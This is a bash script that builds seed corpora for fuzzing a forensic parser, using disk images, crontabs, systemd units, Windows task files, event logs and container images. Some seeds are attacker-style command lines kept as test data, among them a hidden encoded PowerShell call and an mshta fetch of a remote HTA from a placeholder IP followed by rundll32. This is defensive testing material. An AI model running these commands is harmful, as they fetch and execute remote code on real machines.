#!/usr/bin/env bash
# Seed corpora from the test images (small volumes; the fuzzer mutates from there).
set -euo pipefail
cd "$(dirname "$0")"
mkdir -p seeds/ntfs seeds/ext4 seeds/partition_table
zstd -qdc ../corpus/images/ext4-inline.img.zst | head -c 1048576 >seeds/ext4/inline || true
zstd -qdc ../corpus/images/ext2-blockmap.img.zst | head -c 1048576 >seeds/ext4/ext2 || true
zstd -qdc ../corpus/images/mbr-logical.img.zst | head -c 65536 >seeds/partition_table/mbr || true
zstd -qdc ../corpus/images/gpt-disk.img.zst | head -c 65536 >seeds/partition_table/gpt || true
# A whole-disk LVM2 PV: label, metadata area and text (the first PV of lvm-disk, 64 KiB of it).
zstd -qdc ../corpus/images/lvm-disk.img.zst | tail -c +1048577 | head -c 65536 >seeds/partition_table/lvm-pv || true
# A whole (small) NTFS volume: the MBR disk's logical NTFS partition.
{ zstd -qdc ../corpus/images/mbr-logical.img.zst | tail -c +$((24576 * 512 + 1)) | head -c $((24576 * 512)) >seeds/ntfs/logical; } || true
mkdir -p seeds/crontab seeds/anacrontab seeds/systemd_unit
printf '# c\nSHELL=/bin/sh\n*/5 * * * * root a%%b\\%%c\n@reboot root x\n' >seeds/crontab/system
printf 'RANDOM_DELAY=45\n1\t5\tcron.daily\trun-parts /etc/cron.daily\n@monthly 15 m x\n' >seeds/anacrontab/a
printf '[Timer]\nOnCalendar=daily\nPersistent=true\n[Service]\nExecStart=/bin/x \\\n  --y\nUser=z\n' >seeds/systemd_unit/u
# Program files: the real PE files of the shared corpus (never copied into git); command lines.
mkdir -p seeds/binary seeds/command_line
cp ../../shared/corpus-real/pe/* seeds/binary/ 2>/dev/null || true
printf '%s' 'powershell.exe -NoP -W Hidden -enc dwBoAG8AYQBtAGkA' >seeds/command_line/ps
printf '%s' 'C:\Program Files\Evil Corp\evil.exe -k x' >seeds/command_line/unquoted
printf '%s' 'cmd /c "mshta http://198.51.100.7/p.hta & rundll32 a.dll,Start"' >seeds/command_line/cmd
printf '%s' "cd / && timeout 30 sudo -u w bash -c \"\$BIN/run \${X}\" | sh # c" >seeds/command_line/sh
# Text logs and histories: the files of the linux-auth image (written by the real daemons).
mkdir -p seeds/text_logs
if command -v icat >/dev/null && command -v fls >/dev/null; then
  zstd -qdc ../corpus/images/linux-auth.img.zst >seeds/auth.img
  fls -r -p seeds/auth.img | awk '/(auth.log|secure|syslog|_history)$/ {sub(":","",$2); print $2, $3}' |
    while read -r inode path; do icat seeds/auth.img "$inode" >"seeds/text_logs/$(basename "$path")"; done
  rm -f seeds/auth.img
fi
# Schedules: a few real zone files, calendar expressions, crontabs and task files.
mkdir -p seeds/schedules
for z in Europe/Berlin America/New_York Australia/Lord_Howe Asia/Kolkata UTC; do
  cp "/usr/share/zoneinfo/$z" "seeds/schedules/tz-${z//\//-}" 2>/dev/null || true
done
printf 'Mon..Fri *-*-* 09:30\n*-02~01 12:00\n*:0/15\nCET-1CEST,M3.5.0,M10.5.0/3\n' >seeds/schedules/calendars
cp ../../shared/corpus-real/cron/* seeds/schedules/ 2>/dev/null || true
mkdir -p seeds/task_xml seeds/job seeds/task_cache

python3 ../corpus/windows_tasks.py seeds/tree 0
find seeds/tree/Windows/System32/Tasks -type f -exec cp {} seeds/task_xml/ \; 2>/dev/null || true
cp seeds/task_xml/* seeds/schedules/ 2>/dev/null || true
cp seeds/tree/Windows/Tasks/*.job seeds/job/
python3 ../corpus/task_cache.py seeds/task_cache/SOFTWARE
rm -rf seeds/tree
# Event logs: small real logs of the shared corpus, when it is there (never copied into git).
mkdir -p seeds/evtx
cp ../../shared/corpus-real/evtx/omerbenamram__2-vss_7-System.evtx seeds/evtx/ 2>/dev/null || true
# One-chunk logs whose records the typed reader takes apart (Security, System, TaskScheduler,
# Sysmon; EventData, UserData and unnamed Data): mutations reach its template walk.
for f in deepblue__disablestop-eventlog mdecrevoisier__ID7045-Random_service_installation \
  mdecrevoisier__ID4697-New_service_for_Mimikatz velociraptor__TaskScheduler \
  sbousseaden__Persistence__sysmon_13_1_persistence_via_winlogon_shell; do
  cp "../../shared/corpus-real/evtx/$f.evtx" seeds/evtx/ 2>/dev/null || true
done
# Containers: the corpus disk in every container format (small ones: the fuzzer mutates them).
mkdir -p seeds/container
# (VHD and VHDX copies are tens of MiB: too large to fuzz from; their headers are reached by mutation.)
for f in disk-e01.E01 disk-ftk.E01 disk.qcow2 disk-v2.qcow2 disk-zstd.qcow2 disk-sparse.vmdk disk-stream.vmdk; do
  zstd -qdc "../corpus/containers/$f.zst" >"seeds/container/$f" 2>/dev/null || true
done
# Triage archives: a KAPE-like tree as zip, tar and tar.gz (real zip and tar).
mkdir -p seeds/archive
t=$(mktemp -d); mkdir -p "$t/C/Windows/System32/Tasks"
printf '<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec><Command>x.exe</Command></Exec></Actions></Task>' >"$t/C/Windows/System32/Tasks/T"
ln -s T "$t/C/Windows/System32/Tasks/L"
(cd "$t" && zip -qry "$OLDPWD/seeds/archive/kape.zip" C && tar cf "$OLDPWD/seeds/archive/kape.tar" C && tar czf "$OLDPWD/seeds/archive/kape.tgz" C) || true
rm -rf "$t"
